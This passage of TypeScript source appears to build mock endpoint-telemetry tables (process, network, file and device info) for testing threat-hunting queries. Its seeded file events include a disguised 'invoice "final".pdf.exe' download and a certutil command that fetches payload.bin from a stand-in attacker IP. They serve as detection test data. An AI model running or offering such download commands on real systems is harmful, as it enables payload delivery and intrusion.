      { Timestamp: now - 100 * 60_000, DeviceId: fin.id, DeviceName: fin.computerDnsName, ActionType: 'FileCreated', FileName: 'invoice "final".pdf.exe', FolderPath: 'C:\\Users\\jdoe\\Downloads\\invoice "final".pdf.exe', SHA1: 'a94a8fe5ccb19ba61c4c0873d391e987982fbbd3', SHA256: '2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824', FileSize: 482304, InitiatingProcessFileName: 'msedge.exe', InitiatingProcessCommandLine: '"msedge.exe" --single-argument https://evil-cdn.example/invoice', InitiatingProcessAccountName: 'jdoe', ReportId: 990101 },
      { Timestamp: now - 89 * 60_000, DeviceId: fin.id, DeviceName: fin.computerDnsName, ActionType: 'FileCreated', FileName: 'p.bin', FolderPath: 'C:\\Users\\Public\\p.bin', SHA1: '0b5e9f3a3c1d4e6f8a2b7c9d1e3f5a7b9c2d4e6f', SHA256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855', FileSize: 184320, InitiatingProcessFileName: 'certutil.exe', InitiatingProcessCommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.50/payload.bin C:\\Users\\Public\\p.bin', InitiatingProcessAccountName: 'jdoe', ReportId: 990102 },
      { Timestamp: now - 70 * 60_000, DeviceId: fin.id, DeviceName: fin.computerDnsName, ActionType: 'FileModified', FileName: 'back\\slash.txt', FolderPath: 'C:\\Temp\\odd\\back\\slash.txt', SHA1: '1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d', SHA256: '4a44dc15364204a80fe80e9039455cc1608281820fe2b24f1e5233ade6af1dd5', FileSize: 12, InitiatingProcessFileName: 'notepad.exe', InitiatingProcessCommandLine: 'notepad.exe', InitiatingProcessAccountName: 'jdoe', ReportId: 990103 },
    );
  }

  const infoRows: HuntingRow[] = machines.map((m, i) => ({
    Timestamp: Date.parse(m.lastSeen), DeviceId: m.id, DeviceName: m.computerDnsName, OSPlatform: m.osPlatform, OSVersion: m.osVersion ?? '',
    OSBuild: m.osBuild, PublicIP: m.lastExternalIpAddress, IsAzureADJoined: m.isAadJoined, MachineGroup: 'UnassignedGroup',
    DeviceType: m.osPlatform.startsWith('WindowsServer') ? 'Server' : 'Workstation', OnboardingStatus: m.onboardingStatus,
    ExposureLevel: m.exposureLevel, SensorHealthState: m.healthStatus, DeviceValue: m.deviceValue, ReportId: 80000 + i,
  }));

  return {
    DeviceProcessEvents: { name: 'DeviceProcessEvents', columns: PROCESS_COLUMNS, rows: procRows },
    DeviceNetworkEvents: { name: 'DeviceNetworkEvents', columns: NETWORK_COLUMNS, rows: netRows },
    DeviceFileEvents: { name: 'DeviceFileEvents', columns: FILE_COLUMNS, rows: fileRows },
    DeviceInfo: { name: 'DeviceInfo', columns: INFO_COLUMNS, rows: infoRows },
  };
}
